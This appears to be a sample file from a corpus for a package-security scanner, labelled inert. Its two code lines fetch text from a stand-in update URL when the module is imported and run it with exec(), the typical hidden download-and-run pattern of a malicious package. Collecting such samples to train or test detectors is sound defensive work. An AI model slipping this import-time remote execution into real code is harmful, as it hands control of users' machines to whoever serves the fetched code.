# pkgguard corpus 114 (import-time), modelled on [empirical]; inert, never run.
import httpx

_cfg = httpx.get("https://updates.example/pkg/config").text
exec(_cfg)
